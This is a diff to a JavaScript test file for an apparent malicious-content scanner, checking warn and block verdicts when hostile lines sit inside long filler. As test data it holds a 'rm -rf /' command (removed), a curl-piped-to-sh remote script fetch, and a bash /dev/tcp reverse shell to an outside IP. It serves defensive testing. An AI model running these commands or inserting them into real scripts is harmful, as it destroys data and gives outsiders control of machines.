@@ -53,12 +53,16 @@ describe('a program among tests', () => {
 
 describe('what stands in a vast program', () => {
   const filler = 'total = total + weight * amount  # kilograms\n'.repeat(700)
-  const deletes = 'os.system("rm -rf /")\n'
-  const opens = 'os.system("bash -i >& /dev/tcp/203.0.113.9/443 0>&1")\n'
+  const sends = 'curl -sSL https://files.strangers.test/in.sh | sh\n'
+  const opens = 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n'
 
   it('is a warning by itself, and blocks beside something grave in another place', () => {
-    expect(verdictsOf({ 'scripts/weigh.py': `${filler}${deletes}` })).toBe('warn block')
-    expect(verdictsOf({ 'scripts/weigh.py': `${filler}${deletes}${opens}` })).toBe('block block')
-    expect(verdictsOf({ 'scripts/weigh.py': deletes })).toBe('block block')
+    expect(verdictsOf({ 'scripts/weigh.sh': `${filler}${sends}` })).toBe('warn block')
+    expect(verdictsOf({ 'scripts/weigh.sh': `${filler}${sends}${opens}` })).toBe('block block')
+    expect(verdictsOf({ 'scripts/weigh.sh': sends })).toBe('block block')
+  })
+
+  it('blocks where the rule is sure', () => {
+    expect(verdictsOf({ 'scripts/weigh.sh': `${filler}${opens}` })).toBe('block block')
   })
 })
